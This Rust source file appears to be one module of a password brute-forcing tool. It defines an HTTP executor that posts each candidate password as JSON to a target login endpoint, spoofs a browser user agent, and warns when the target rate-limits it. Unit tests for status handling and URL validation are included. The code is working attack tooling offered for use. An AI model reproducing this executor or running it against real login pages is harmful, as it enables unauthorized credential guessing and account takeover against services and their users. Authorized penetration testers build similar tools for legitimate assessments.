//! Request execution against the target endpoint
//!
//! A request executor performs exactly one network attempt per call and never
//! retries internally; the orchestrator owns the retry policy. Implementations
//! must be safe to call concurrently from multiple workers.

use crate::error::{AttackError, AttackResult};
use crate::types::AttackRequest;
use async_trait::async_trait;
use serde::Serialize;
use std::time::Duration;
use tracing::{info, warn};

/// Structured response from a single attempt.
///
/// The status code is carried as a field rather than parsed back out of
/// formatted text.
#[derive(Debug, Clone)]
pub struct HttpResponse {
    pub status_code: u16,
    pub body: String,
}

impl HttpResponse {
    /// Check if the response indicates success (2xx status code)
    pub fn is_success(&self) -> bool {
        (200..300).contains(&self.status_code)
    }
}

/// Executes one attempt for one candidate value.
#[async_trait]
pub trait RequestExecutor: Send + Sync {
    /// Perform a single network attempt.
    ///
    /// `Ok` is a terminal outcome for the candidate regardless of status code;
    /// `Err` is a transport-level failure the orchestrator may retry.
    async fn attempt(&self, candidate: &str) -> AttackResult<HttpResponse>;
}

#[derive(Serialize)]
struct CandidateBody<'a> {
    password: &'a str,
}

/// HTTP executor posting each candidate as a JSON credential body.
pub struct HttpRequestExecutor {
    client: reqwest::Client,
    target_url: String,
}

impl HttpRequestExecutor {
    /// Build a client from the request's timeout configuration.
    ///
    /// reqwest exposes a connect timeout and a total request timeout; the
    /// configured read timeout bounds the whole exchange and the write timeout
    /// is subsumed by it.
    pub fn new(request: &AttackRequest) -> AttackResult<Self> {
        request.validate()?;
        let client = reqwest::Client::builder()
            .connect_timeout(Duration::from_secs(request.connect_timeout_secs))
            .timeout(Duration::from_secs(
                request.read_timeout_secs.max(request.write_timeout_secs),
            ))
            .build()
            .map_err(|e| AttackError::configuration(format!("http client: {}", e)))?;
        Ok(Self {
            client,
            target_url: request.target_url.clone(),
        })
    }
}

#[async_trait]
impl RequestExecutor for HttpRequestExecutor {
    async fn attempt(&self, candidate: &str) -> AttackResult<HttpResponse> {
        let response = self
            .client
            .post(&self.target_url)
            .header(reqwest::header::ACCEPT, "*/*")
            .header(reqwest::header::USER_AGENT, "Mozilla/5.0")
            .json(&CandidateBody {
                password: candidate,
            })
            .send()
            .await?;

        let status_code = response.status().as_u16();
        let body = response.text().await?;

        match status_code {
            429 => warn!(status_code, "rate limited by target, consider lowering the rate"),
            504 => warn!(status_code, "gateway timeout"),
            200 | 201 => info!(status_code, body_len = body.len(), "attempt succeeded"),
            _ => {}
        }

        Ok(HttpResponse { status_code, body })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::types::AttackRequest;

    #[test]
    fn test_success_is_2xx() {
        let ok = HttpResponse {
            status_code: 201,
            body: String::new(),
        };
        assert!(ok.is_success());

        let denied = HttpResponse {
            status_code: 401,
            body: String::new(),
        };
        assert!(!denied.is_success());
    }

    #[test]
    fn test_executor_rejects_invalid_target() {
        let request = AttackRequest::new("not-a-url");
        assert!(HttpRequestExecutor::new(&request).is_err());
    }

    #[test]
    fn test_executor_builds_for_valid_target() {
        let request = AttackRequest::new("https://example.com/login");
        assert!(HttpRequestExecutor::new(&request).is_ok());
    }
}
